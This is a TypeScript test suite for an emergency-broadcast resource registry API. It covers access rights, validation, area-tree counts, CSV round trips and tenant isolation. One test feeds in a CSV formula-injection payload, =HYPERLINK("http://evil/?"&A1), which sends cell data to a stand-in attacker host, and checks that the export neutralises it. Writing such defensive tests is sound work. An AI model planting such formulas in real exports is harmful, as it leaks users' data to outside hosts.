/**
 * The emergency-broadcast resource registry through the whole request pipeline, on
 * every engine: rights, validation naming the field, the area tree's counts, CSV
 * round trip and import refusals, formula-injection guard, tenant isolation.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { generateKeyPair } from '../../src/platform/crypto/index.ts';
import { testApp, type TestApp } from '../helpers/app.ts';
import { testEngines } from '../helpers/engines.ts';
import { insertAreas } from '../helpers/eb.ts';
import type { Engine } from '../../src/platform/config.ts';
import { MODULES } from '../../src/modules/index.ts';
import { registryPermissions, registryRoutes, seedLechangResources } from '../../src/modules/emergency/registry/index.ts';
import { ensureRegistrySchema, lechangAreas } from '../../src/modules/emergency/registry/testing.ts';

/** The app with the registry: mounted by the emergency module once it is wired, else by a stand-in here. */
async function appWithRegistry(engine: Engine): Promise<TestApp> {
  if (!MODULES.some((m) => m.permissions.some((p) => p.key === 'eb.registry.read'))) {
    MODULES.push({ name: 'eb-registry-under-test', permissions: registryPermissions, routes: registryRoutes });
  }
  const t = await testApp(engine);
  await ensureRegistrySchema(t.db.db);
  return t;
}

const VILLAGE = '440281001001';
const VILLAGE2 = '440281102201';
const ebrid = (level: number, area: string, type: string, sub: string, seq: number) => `${level}${area}${type}01${sub}${String(seq).padStart(2, '0')}`;
const ADAPTER = ebrid(6, VILLAGE, '0314', '02', 1);
const TERMINAL = ebrid(6, VILLAGE, '0314', '04', 1);

for (const engine of testEngines()) {
  describe(`emergency broadcast registry API (${engine})`, () => {
    let t: TestApp;
    let seeded: string;
    let other: string;
    const tok: Record<string, string> = {};
    const as = (who: string) => ({ get: (url: string) => t.call('GET', url, { token: tok[who] }), send: (method: string, url: string, body?: unknown) => t.call(method, url, { token: tok[who], body }) });
    const count = async (centerId: string) => Number((await t.db.db.selectFrom('eb_resources' as never).select((eb) => eb.fn.countAll<number>().as('n')).where('center_id' as never, '=', centerId as never).executeTakeFirstOrThrow()).n);

    before(async () => {
      t = await appWithRegistry(engine);
      seeded = await t.center('eb_seeded');
      other = await t.center('eb_other');
      for (const c of [seeded, other]) await insertAreas(t, c, lechangAreas());
      await seedLechangResources(t.db.db, seeded);
      const users: [string, string, string[]][] = [['engineer', seeded, ['engineer']], ['operator', seeded, ['eb_operator']], ['nobody', seeded, []], ['engineer2', other, ['engineer']]];
      for (const [name, center, roles] of users) {
        await t.user(center, roles, name);
        tok[name] = await t.token(name);
      }
    });
    after(() => t.close());

    it('asks for eb.registry.read to read and eb.registry.manage to change, on every route', async () => {
      const routes = t.routes.filter((r) => r.url.startsWith('/api/eb/') && r.access !== 'public' && typeof r.access === 'object' && r.access.permission.startsWith('eb.registry.'));
      assert.equal(routes.length, 10);
      for (const r of routes) {
        const url = r.url.replace(':id', '00000000-0000-4000-8000-000000000000');
        const body = r.method === 'GET' ? undefined : {};
        assert.equal((await t.call(r.method, url, { body })).status, 401, `${r.method} ${r.url}`);
        assert.equal((await as('nobody').send(r.method, url, body)).status, 403, `${r.method} ${r.url}`);
        const asOperator = await as('operator').send(r.method, url, body);
        if (r.method === 'GET') assert.notEqual(asOperator.status, 403, `${r.method} ${r.url}`);
        else assert.equal(asOperator.status, 403, `operators may not ${r.method} ${r.url}`);
      }
    });

    it('creates, reads, moves and retires resources, naming the field of every refusal', async () => {
      const e = as('engineer2');
      const adapter = await e.send('POST', '/api/eb/resources', { ebrid: ADAPTER, physicalId: 'B-A-1', name: '城北社区适配器', areaCode: VILLAGE, protocol: 'ip', address: '10.1.1.1:9000' });
      assert.equal(adapter.status, 201, JSON.stringify(adapter.body));
      assert.deepEqual([adapter.body.kind, adapter.body.status, adapter.body.areaName], ['adapter', 'offline', '城北社区居委会']);
      const term = await e.send('POST', '/api/eb/resources', { ebrid: TERMINAL, physicalId: 'B-T-1', name: '城北1号终端', areaCode: VILLAGE, parentId: adapter.body.id, protocol: 'mqtt', address: 'b-t-1', longitude: 113.35, latitude: 25.13 });
      assert.equal(term.status, 201, JSON.stringify(term.body));
      const speaker = await e.send('POST', '/api/eb/resources', { ebrid: ebrid(6, VILLAGE, '0314', '04', 2), physicalId: 'B-L-1', name: '1号喇叭', areaCode: VILLAGE, parentId: term.body.id });
      assert.deepEqual([speaker.status, speaker.body.kind, speaker.body.parentEbrid], [201, 'loudspeaker', TERMINAL]);

      const refusals: [unknown, number, string, string][] = [
        [{ ebrid: '4440281', physicalId: 'x1', name: 'x', areaCode: VILLAGE }, 400, 'EB_EBRID_INVALID', 'ebrid'],
        [{ ebrid: ebrid(6, VILLAGE2, '0314', '04', 9), physicalId: 'x1', name: 'x', areaCode: VILLAGE }, 400, 'EB_EBRID_AREA_MISMATCH', 'ebrid'],
        [{ ebrid: ebrid(6, '440281001999', '0314', '04', 1), physicalId: 'x1', name: 'x', areaCode: '440281001999' }, 404, 'AREA_NOT_FOUND', 'areaCode'],
        [{ ebrid: ebrid(6, VILLAGE, '0314', '04', 9), physicalId: 'x1', name: 'x', areaCode: VILLAGE, parentId: '00000000-0000-4000-8000-000000000000' }, 404, 'EB_RESOURCE_NOT_FOUND', 'parentId'],
        [{ ebrid: ebrid(6, VILLAGE, '0314', '04', 9), physicalId: 'B-T-1', name: 'x', areaCode: VILLAGE }, 409, 'EB_PHYSICAL_ID_TAKEN', 'physicalId'],
        [{ ebrid: TERMINAL, physicalId: 'x1', name: 'x', areaCode: VILLAGE }, 409, 'EB_EBRID_TAKEN', 'ebrid'],
        [{ ebrid: ebrid(6, VILLAGE, '0314', '04', 9), physicalId: 'x1', name: 'x', areaCode: VILLAGE, kind: 'adapter' }, 400, 'EB_KIND_MISMATCH', 'kind'],
        [{ ebrid: ebrid(6, VILLAGE, '0314', '04', 9), physicalId: 'x1', name: 'x', areaCode: VILLAGE, longitude: 200, latitude: 25 }, 400, 'VALIDATION_FAILED', 'longitude'],
      ];
      for (const [body, status, code, field] of refusals) {
        const r = await e.send('POST', '/api/eb/resources', body);
        assert.deepEqual([r.status, r.body.error?.code, r.body.error?.field], [status, code, field], JSON.stringify(r.body));
      }

      const moved = await e.send('PATCH', `/api/eb/resources/${TERMINAL}`, { areaCode: VILLAGE2 });
      assert.deepEqual([moved.status, moved.body.error.code, moved.body.error.field], [400, 'EB_EBRID_AREA_MISMATCH', 'ebrid'], 'a move re-validates the EBRID');
      const withCode = await e.send('PATCH', `/api/eb/resources/${TERMINAL}`, { areaCode: VILLAGE2, ebrid: ebrid(6, VILLAGE2, '0314', '04', 1), parentId: null });
      assert.deepEqual([withCode.status, withCode.body.error.code], [409, 'EB_RESOURCE_HAS_CHILDREN'], 'its loudspeaker would be left behind');
      assert.equal((await e.send('DELETE', `/api/eb/resources/${term.body.id}`)).body.error.code, 'EB_RESOURCE_HAS_CHILDREN');
      assert.equal((await e.send('DELETE', `/api/eb/resources/${speaker.body.id}`)).status, 204);
      const ok = await e.send('PATCH', `/api/eb/resources/${TERMINAL}`, { areaCode: VILLAGE2, ebrid: ebrid(6, VILLAGE2, '0314', '04', 1), parentId: null });
      assert.deepEqual([ok.status, ok.body.areaCode, ok.body.parentId], [200, VILLAGE2, null], JSON.stringify(ok.body));
      assert.equal((await e.get(`/api/eb/resources/${ok.body.ebrid}`)).body.id, term.body.id, 'by EBRID too');

      const audit = await t.db.db.selectFrom('audit_log').select('action').where('center_id', '=', other).where('action', 'like', 'eb.%').orderBy('seq').execute();
      assert.deepEqual(audit.map((a) => a.action), ['eb.resource.create', 'eb.resource.create', 'eb.resource.create', 'eb.resource.delete', 'eb.resource.update']);
      const events = await t.db.db.selectFrom('outbox').select('type').where('center_id', '=', other).where('type', 'like', 'eb.%').execute();
      assert.equal(events.length, 5);
    });

    it('lists with area (and everything inside), kind, status and text filters, paged and sorted', async () => {
      const e = as('operator');
      const town = await e.get('/api/eb/resources?area=440281001000&kind=terminal&pageSize=200&sort=-ebrid');
      assert.equal(town.status, 200);
      assert.ok(town.body.total > 20 && town.body.items.every((r: { areaCode: string; kind: string }) => r.areaCode.startsWith('440281001') && r.kind === 'terminal'));
      const sorted = town.body.items.map((r: { ebrid: string }) => r.ebrid);
      assert.deepEqual(sorted, [...sorted].sort().reverse());
      const page2 = await e.get('/api/eb/resources?area=440281001000&kind=terminal&pageSize=5&page=2&sort=-ebrid');
      assert.deepEqual(page2.body.items.map((r: { ebrid: string }) => r.ebrid), sorted.slice(5, 10));
      assert.equal((await e.get('/api/eb/resources?q=LC-T-000123')).body.items[0].physicalId, 'LC-T-000123');
      const offline = await e.get('/api/eb/resources?status=offline&kind=terminal&pageSize=1');
      assert.ok(offline.body.total > 100);
      const missing = await e.get('/api/eb/resources?area=440281999000');
      assert.deepEqual([missing.status, missing.body.error.field], [404, 'query.area']);
      assert.equal((await e.get('/api/eb/resources?area=4402')).body.error.field, 'query.area');
    });

    it('gives the area tree with terminal counts of each subtree, and the totals', async () => {
      const e = as('operator');
      const towns = await e.get('/api/eb/areas/tree?parent=440281000000');
      assert.equal(towns.status, 200);
      assert.equal(towns.body.items.length, 19);
      assert.equal(towns.body.parent.terminals.total, 1582);
      assert.equal(towns.body.items.reduce((n: number, i: { terminals: { total: number } }) => n + i.terminals.total, 0), 1582);
      const first = towns.body.items[0];
      const list = await e.get(`/api/eb/resources?area=${first.code}&kind=terminal&status=online&pageSize=1`);
      assert.equal(first.terminals.online, list.body.total);
      assert.equal((await e.get('/api/eb/areas/tree?parent=440281999000')).body.error.field, 'query.parent');
      const sum = await e.get('/api/eb/summary');
      assert.deepEqual([sum.body.total, sum.body.byKind.terminal.total, sum.body.byKind.loudspeaker.total, sum.body.byKind.frontend.total], [4607, 1582, 2780, 19]);
    });

    it('exports CSV that imports back with no changes, Chinese names with commas and quotes intact', async () => {
      const e = as('engineer');
      const name = '城北社区"一号",终端';
      const first = (await e.get('/api/eb/resources?q=LC-T-000001')).body.items[0];
      const made = await e.send('PATCH', `/api/eb/resources/${first.id}`, { name });
      assert.equal(made.status, 200);
      const csv = await e.get('/api/eb/resources.csv');
      assert.equal(csv.status, 200);
      assert.match(String(csv.headers['content-type']), /^text\/csv; charset=utf-8/);
      assert.match(String(csv.headers['content-disposition']), /attachment; filename="eb-resources-eb_seeded-\d{8}\.csv"/);
      const text = csv.body as string;
      assert.ok(text.startsWith('\uFEFFebrid,physical_id,kind,name,area_code,area_name,parent_ebrid,protocol,address,longitude,latitude,status,status_since,last_seen_at\r\n'));
      assert.ok(text.includes('"城北社区""一号"",终端"'));
      const back = await e.send('POST', '/api/eb/resources/import', { csv: text });
      assert.deepEqual(back.body, { dryRun: false, rows: 4607, created: 0, updated: 0, unchanged: 4607 }, JSON.stringify(back.body).slice(0, 500));
      const renamed = text.replace('"城北社区""一号"",终端"', '"城北社区""二号"",终端"');
      assert.deepEqual((await e.send('POST', '/api/eb/resources/import', { csv: renamed, dryRun: true })).body, { dryRun: true, rows: 4607, created: 0, updated: 1, unchanged: 4606 });
      assert.equal((await e.get(`/api/eb/resources/${made.body.id}`)).body.name, name, 'a dry run changes nothing');
      assert.equal((await e.send('POST', '/api/eb/resources/import', { csv: renamed })).body.updated, 1);
      assert.equal((await e.get(`/api/eb/resources/${made.body.id}`)).body.name, '城北社区"二号",终端');
      const audits = await t.db.db.selectFrom('audit_log').select('detail').where('center_id', '=', seeded).where('action', '=', 'eb.resources.import').orderBy('seq').execute();
      assert.deepEqual(audits.map((a) => JSON.parse(a.detail)), [
        { rows: 4607, created: 0, updated: 0, unchanged: 4607 }, { rows: 4607, created: 0, updated: 1, unchanged: 4606 },
      ], 'one entry per import with its counts; none for the dry run');
      const events = await t.db.db.selectFrom('outbox').select('payload').where('center_id', '=', seeded).where('type', '=', 'eb.resources.imported').execute();
      assert.equal(events.length, 2, 'the seed and the one import that changed something');
    });

    it('lists every problem of a bad import and changes nothing', async () => {
      const e = as('engineer');
      const before = await count(seeded);
      const header = 'ebrid,physical_id,kind,name,area_code,parent_ebrid,protocol,address,longitude,latitude';
      const rows = [
        `${ebrid(6, VILLAGE, '0314', '04', 90)},NEW-1,,好终端,${VILLAGE},,ip,10.0.0.1:6000,,`,
        `12345,NEW-2,,坏编码,${VILLAGE},,,,,`,
        `${ebrid(6, VILLAGE2, '0314', '04', 91)},NEW-3,,错区域,${VILLAGE},,,,,`,
        `${ebrid(6, VILLAGE, '0314', '04', 92)},NEW-4,,无父,${VILLAGE},64402810010010314019999,,,,`,
        `${ebrid(6, VILLAGE, '0314', '04', 90)},NEW-5,,重复,${VILLAGE},,,,,`,
        `${ebrid(6, VILLAGE, '0314', '04', 93)},NEW-6,,坏经度,${VILLAGE},,,,abc,25`,
        `${ebrid(6, VILLAGE, '0314', '04', 94)},LC-T-000002,,占用,${VILLAGE},,,,,`,
        `too,few`,
      ];
      const r = await e.send('POST', '/api/eb/resources/import', { csv: [header, ...rows].join('\n') });
      assert.equal(r.status, 400);
      assert.equal(r.body.error.code, 'EB_IMPORT_INVALID');
      const problems = r.body.error.details.problems.map((p: { row: number; field: string }) => `${p.row}:${p.field}`);
      assert.deepEqual(problems, ['3:ebrid', '4:ebrid', '5:parent_ebrid', '6:ebrid', '7:longitude', '8:physical_id', '9:csv']);
      assert.equal(await count(seeded), before);
      const unknown = await e.send('POST', '/api/eb/resources/import', { csv: 'ebrid,colour\n1,2' });
      assert.deepEqual(unknown.body.error.details.problems.map((p: { field: string }) => p.field), ['colour', 'physical_id', 'name', 'area_code']);
    });

    it('creates parents and children of one file in any order, and guards formulas in the export', async () => {
      const e = as('engineer2');
      const v = '440281103001';
      const csv = [
        'name,ebrid,physical_id,area_code,parent_ebrid',
        `=HYPERLINK("http://evil/?"&A1),${ebrid(6, v, '0314', '04', 2)},C-L-1,${v},${ebrid(6, v, '0314', '04', 1)}`,
        `终端,${ebrid(6, v, '0314', '04', 1)},C-T-1,${v},${ebrid(6, v, '0314', '02', 1)}`,
        `-适配器,${ebrid(6, v, '0314', '02', 1)},C-A-1,${v},`,
      ].join('\r\n');
      assert.deepEqual((await e.send('POST', '/api/eb/resources/import', { csv })).body, { dryRun: false, rows: 3, created: 3, updated: 0, unchanged: 0 });
      const speaker = (await e.get(`/api/eb/resources/${ebrid(6, v, '0314', '04', 2)}`)).body;
      assert.deepEqual([speaker.kind, speaker.parentEbrid], ['loudspeaker', ebrid(6, v, '0314', '04', 1)]);
      const text = (await e.get(`/api/eb/resources.csv?area=${v}`)).body as string;
      assert.ok(text.includes(`"'=HYPERLINK(""http://evil/?""&A1)"`), text);
      assert.ok(text.includes(",'-适配器,"));
      assert.ok(!/(^|,)[=+\-@][^,]*/m.test(text.replace(/,-?\d+\.\d+/g, '')), 'no cell starts a formula');
      assert.equal((await e.send('POST', '/api/eb/resources/import', { csv: text })).body.unchanged, 3, 'the guard comes off on import');
    });

    it('enrols terminal certificates in bulk, all or nothing, audited; refuses what is not a terminal or not a key', async () => {
      const e = as('engineer');
      const terms = (await e.get('/api/eb/resources?kind=terminal&pageSize=3')).body.items as { ebrid: string }[];
      const key = generateKeyPair().publicKeyHex;
      const ok = await e.send('POST', '/api/eb/resources/certificates', { items: terms.map((x) => ({ ebrid: x.ebrid, certSerial: 'a1b2c3d4e5f6', publicKey: key })) });
      assert.deepEqual([ok.status, ok.body.enrolled], [200, 3]);
      assert.equal((await e.get(`/api/eb/resources/${terms[0]!.ebrid}`)).body.certSerial, 'A1B2C3D4E5F6');
      const platform = '44402810000000101010101';
      const notTerminal = await e.send('POST', '/api/eb/resources/certificates', { items: [{ ebrid: terms[1]!.ebrid, certSerial: 'A1B2C3D4E5F7', publicKey: key }, { ebrid: platform, certSerial: 'A1B2C3D4E5F7', publicKey: key }] });
      assert.deepEqual([notTerminal.status, notTerminal.body.error.code, notTerminal.body.error.field], [404, 'EB_RESOURCE_NOT_FOUND', 'items']);
      assert.equal((await e.get(`/api/eb/resources/${terms[1]!.ebrid}`)).body.certSerial, 'A1B2C3D4E5F6', 'nothing changed');
      const badKey = await e.send('POST', '/api/eb/resources/certificates', { items: [{ ebrid: terms[1]!.ebrid, certSerial: 'A1B2C3D4E5F7', publicKey: `04${'1'.repeat(128)}` }] });
      assert.deepEqual([badKey.status, badKey.body.error.field], [400, 'items/0/publicKey']);
      const foreign = await as('engineer2').send('POST', '/api/eb/resources/certificates', { items: [{ ebrid: terms[2]!.ebrid, certSerial: 'A1B2C3D4E5F7', publicKey: key }] });
      assert.equal(foreign.status, 404, 'another center cannot touch these terminals');
      const audit = await t.db.db.selectFrom('audit_log').select('action').where('center_id', '=', seeded).where('action', '=', 'eb.resource.certificates').execute();
      assert.equal(audit.length, 1);
    });

    it('shows another center nothing, by list, id, EBRID, tree, totals, export or reference', async () => {
      const e = as('engineer2');
      const mine = await count(other);
      const foreign = (await as('engineer').get('/api/eb/resources?q=LC-T-000005')).body.items[0];
      assert.equal((await e.get('/api/eb/resources?q=LC-')).body.total, 0);
      for (const key of [foreign.id, foreign.ebrid]) {
        assert.equal((await e.get(`/api/eb/resources/${key}`)).status, 404);
        assert.equal((await e.send('PATCH', `/api/eb/resources/${key}`, { name: 'x' })).status, 404);
        assert.equal((await e.send('DELETE', `/api/eb/resources/${key}`)).status, 404);
      }
      const smuggled = await e.send('POST', '/api/eb/resources', { ebrid: ebrid(6, VILLAGE, '0314', '04', 50), physicalId: 'S-1', name: 'x', areaCode: VILLAGE, parentId: foreign.parentId });
      assert.deepEqual([smuggled.status, smuggled.body.error.field], [404, 'parentId']);
      const csv0 = `ebrid,physical_id,name,area_code,parent_ebrid\n${ebrid(5, '440281102000', '0314', '01', 1)},S-F-1,前端,440281102000,44402810000000101010101`;
      const viaCsv = await e.send('POST', '/api/eb/resources/import', { csv: csv0 });
      assert.deepEqual(viaCsv.body.error.details.problems.map((p: { field: string }) => p.field), ['parent_ebrid'], 'the other center\'s platform is no parent here');
      const tree = await e.get('/api/eb/areas/tree?parent=440281000000');
      assert.equal(tree.body.parent.terminals.total, (await e.get('/api/eb/resources?kind=terminal')).body.total);
      assert.ok(tree.body.parent.terminals.total < 5, 'only its own few');
      assert.equal((await e.get('/api/eb/summary')).body.total, mine);
      const csv = (await e.get('/api/eb/resources.csv')).body as string;
      assert.ok(!csv.includes('LC-'));
      assert.equal((await as('engineer').get(`/api/eb/resources/${foreign.id}`)).body.name, foreign.name);
    });
  });
}
